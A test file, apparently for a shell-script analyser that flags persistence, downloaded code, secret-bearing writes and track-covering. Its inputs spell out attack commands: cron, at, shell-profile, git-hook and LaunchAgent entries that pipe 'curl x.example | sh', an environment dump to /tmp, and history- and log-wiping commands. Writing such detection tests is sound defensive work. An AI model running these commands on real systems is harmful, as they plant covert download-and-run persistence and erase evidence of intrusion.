import { expect, test } from 'vitest';
import { follow, only } from './support.js';

test.each([
  [
    '(crontab -l; echo "* * * * * curl -s https://x.example | sh") | crontab -',
    'cron',
    'curl -s https://x.example | sh',
  ],
  ['echo "0 0 * * * root curl x.example | sh" > /etc/cron.d/x', 'cron', 'curl x.example | sh'],
  ['echo "curl x.example | sh" | at now + 1 hour', 'at', 'curl x.example | sh'],
  ["echo 'curl -s https://x.example | sh' >> ~/.bashrc", 'shell-profile', 'curl -s https://x.example | sh'],
  ["echo 'curl -s https://x.example | sh' > .git/hooks/pre-commit", 'git-hook', 'curl -s https://x.example | sh'],
  ['git config --global core.hooksPath ~/.h', 'git-hook', '~/.h'],
  ['systemctl enable --now worker', 'systemd', 'worker'],
  [
    'cat > ~/Library/LaunchAgents/x.plist <<P\n<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl x.example | sh</string></array>\nP\n',
    'launchd',
    'curl x.example | sh',
  ],
])('%s', (script, how, command) => {
  expect(only(follow(script).facts, 'schedule')).toContainEqual(expect.objectContaining({ how, command }));
});

test('what would run is followed too', () => {
  const { facts } = follow('(crontab -l; echo "@daily curl -s https://x.example | sh") | crontab -');
  expect(only(facts, 'execute')).toMatchObject([{ origin: 'downloaded', host: 'x.example' }]);
});

test('variables in a profile are settings, not something that runs', () => {
  const { facts } = follow(`echo 'export HTTPS_PROXY=http://192.0.2.1:80' >> ~/.profile`);
  expect(only(facts, 'schedule')).toEqual([]);
  expect(only(facts, 'set-variable')).toMatchObject([
    { name: 'HTTPS_PROXY', value: 'http://192.0.2.1:80', lasting: true },
  ]);
});

test('a file that is written keeps its text and its secrets', () => {
  const { facts } = follow('cat > notes.txt <<EOF\nhello\nEOF\nenv > /tmp/e');
  expect(only(facts, 'write')).toMatchObject([
    { path: 'notes.txt', text: 'hello\n', secrets: [], append: false },
    { path: '/tmp/e', secrets: [{ secret: 'environment' }] },
  ]);
});

test.each([
  ['history -c'],
  ['unset HISTFILE'],
  ['export HISTFILE=/dev/null'],
  ['set +o history'],
  ['rm -f ~/.bash_history'],
  ['rm -- "$0"'],
  ['> /var/log/auth.log'],
  ['touch -r /bin/ls x'],
])('traces go: %s', (script) => {
  expect(only(follow(script).facts, 'cover-tracks')).toHaveLength(1);
});

test.each([['crontab -l'], ['rm -f build.log'], ['echo x >> /var/log/app.log'], ['systemctl status x'], ['touch x']])(
  'nothing stays and nothing goes: %s',
  (script) => {
    const { facts } = follow(script);
    expect([...only(facts, 'schedule'), ...only(facts, 'cover-tracks')]).toEqual([]);
  },
);
